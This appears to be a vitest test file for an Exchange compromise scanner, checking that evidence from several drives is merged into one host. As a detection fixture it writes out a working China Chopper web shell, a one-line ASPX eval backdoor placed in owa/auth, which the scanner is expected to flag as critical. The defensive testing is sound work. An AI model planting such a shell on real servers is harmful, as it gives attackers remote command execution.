// Exchange installed on another drive than the one scanned (D:\ or E:\ on many enterprise servers): `scan C:\ --also
// D:\…\V15` reads both as one host, as `collect C=… D=…` copies them (review9 F7). Before, the drop zones and the
// Exchange logs on D: were either unread (C: alone: clean) or a second host with half the evidence.
import { afterAll, describe, expect, it } from 'vitest';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import type { ScanReport } from '../src/model.js';
import { exhunt } from './support/cli.js';

const dir = mkdtempSync(join(tmpdir(), 'exhunt-also-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const ev = join(dir, 'ev');
function put(rel: string, text: string): void {
  mkdirSync(dirname(join(ev, rel)), { recursive: true });
  writeFileSync(join(ev, rel), text);
}

// C: the IIS logs of ordinary traffic, every day from 2021-03-01 to 03-20.
const HEAD = '#Software: Microsoft Internet Information Services 10.0\r\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status sc-substatus sc-win32-status time-taken\r\n';
for (let d = 1; d <= 20; d++) {
  const day = `2021-03-${String(d).padStart(2, '0')}`;
  const probe = (t: string) => `${day} ${t} 10.0.0.5 GET /owa/healthcheck.htm - 443 - 10.0.0.9 AMProbe/Local/ClientAccess 200 0 0 3\r\n`;
  put(`C/inetpub/logs/LogFiles/W3SVC1/u_ex2103${String(d).padStart(2, '0')}.log`, HEAD + probe('00:05:00') + probe('23:55:00'));
}
// D: Exchange's install folder, with a China Chopper page written into owa\auth but never requested (so the IIS logs
// on C: show nothing).
const EX = 'D/Program Files/Microsoft/Exchange Server/V15';
put(`${EX}/FrontEnd/HttpProxy/owa/auth/OutlookZH.aspx`, '<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>\r\n');

function scan(name: string, args: string[]): { code: number | null; stderr: string; report: ScanReport } {
  const out = join(dir, `${name}.json`);
  const r = exhunt(['scan', ...args, '--since', '2021-03-01', '--json', out, '--quiet']);
  return { code: r.code, stderr: r.stderr, report: JSON.parse(readFileSync(out, 'utf8')) as ScanReport };
}

describe('scan PATH --also DIR: one host on several drives', () => {
  it('C: alone is clean, saying the Exchange folder was not in the evidence', () => {
    const { report } = scan('c-only', [join(ev, 'C')]);
    expect(report.hosts).toHaveLength(1);
    expect(report.hosts[0].verdict).toBe('clean');
    expect(report.hosts[0].reasons.some((r) => r.startsWith("Exchange's install folder is not in the evidence"))).toBe(true);
  });

  it('C: with --also D:\\…\\V15 is one host that holds the shell on D:, named by its drive', () => {
    const { code, report } = scan('c-and-d', [join(ev, 'C'), '--also', join(ev, EX)]);
    expect(code).toBe(1);
    expect(report.hosts).toHaveLength(1);
    const host = report.hosts[0];
    expect(host.verdict).not.toBe('clean');
    const shell = host.findings.filter((f) => f.kind === 'webshell' && f.source.path.endsWith('FrontEnd/HttpProxy/owa/auth/OutlookZH.aspx'));
    expect(shell.length).toBeGreaterThan(0);
    expect(SEVERITY_OF(shell)).toBe('critical');
    // The IIS logs of C: still cover the window in the same host.
    expect(host.coverage.some((c) => c.source.startsWith('IIS'))).toBe(true);
    expect(host.reasons.some((r) => r.startsWith("Exchange's install folder is not in the evidence"))).toBe(false);
  });

  it('a folder inside PATH is read once; --also needs exactly one folder PATH', () => {
    const { report, stderr } = scan('inside', [ev, '--also', join(ev, EX)]);
    expect(stderr).toBe('');
    expect(report.hosts).toHaveLength(1);
    const files = report.hosts[0].stats.files_seen;
    expect(scan('plain', [ev]).report.hosts[0].stats.files_seen).toBe(files);
    const two = exhunt(['scan', join(ev, 'C'), join(ev, 'D'), '--also', join(ev, EX)]);
    expect(two.code).toBe(2);
    expect(two.stderr).toMatch(/--also adds folders to one host: give exactly one PATH/);
  });

  it('PATH inside an --also folder is read once, as PATH (review10 R16)', () => {
    const plain = scan('plain2', [ev]).report.hosts[0].stats.files_seen;
    const { report, stderr } = scan('path-inside', [join(ev, 'D'), '--also', ev]);
    expect(stderr).toBe('');
    const host = report.hosts[0];
    expect(host.stats.files_seen).toBe(plain);
    expect(new Set(host.findings.map((f) => f.source.path)).size).toBe(new Set(scan('plain3', [ev]).report.hosts[0].findings.map((f) => f.source.path)).size);
    // The shell once, under PATH's own name.
    expect(host.findings.filter((f) => f.kind === 'webshell').map((f) => f.source.path).filter((p, i, a) => a.indexOf(p) === i)).toEqual([
      'Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/OutlookZH.aspx',
    ]);
  });

  it('an --also folder is named as a drive of the server, not by its whole path on this machine (review10 R16)', () => {
    const shellOf = (r: ScanReport) => r.hosts[0].findings.find((f) => f.kind === 'webshell')?.source.path;
    const want = `D/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/OutlookZH.aspx`;
    // A folder named as a drive letter (a case folder's D, /mnt/d), or D=DIR for any folder.
    expect(shellOf(scan('by-letter', [join(ev, 'C'), '--also', join(ev, 'D')]).report)).toBe(want);
    const named = scan('by-flag', [join(ev, 'C'), '--also', `D=${join(ev, 'D')}`]);
    expect(shellOf(named.report)).toBe(want);
    // Any other folder: by its own name, and said.
    const other = exhunt(['scan', join(ev, 'C'), '--also', join(ev, EX), '--since', '2021-03-01', '--json', join(dir, 'v15.json')]);
    expect(other.stderr).toMatch(/its files are named V15\/…, not as on a drive of the server; give --also D=/);
    const r = JSON.parse(readFileSync(join(dir, 'v15.json'), 'utf8')) as ScanReport;
    expect(shellOf(r)).toBe('V15/FrontEnd/HttpProxy/owa/auth/OutlookZH.aspx');
  });

  it('an --also folder that does not exist is said and listed in skipped; the rest is scanned (review10 R16)', () => {
    const { code, stderr, report } = scan('missing', [join(ev, 'C'), '--also', join(ev, 'E'), '--also', join(ev, 'D')]);
    expect(code).toBe(1);
    expect(stderr).toMatch(/--also .*E does not exist: not read \(listed in skipped\); scanning the rest/);
    const host = report.hosts[0];
    expect(host.skipped.find((s) => s.path === 'E')?.reason).toMatch(/^folder .*E does not exist: not read/);
    expect(host.findings.some((f) => f.kind === 'webshell')).toBe(true);
  });
});

function SEVERITY_OF(list: { severity: string }[]): string {
  return list.map((f) => f.severity).sort()[0];
}
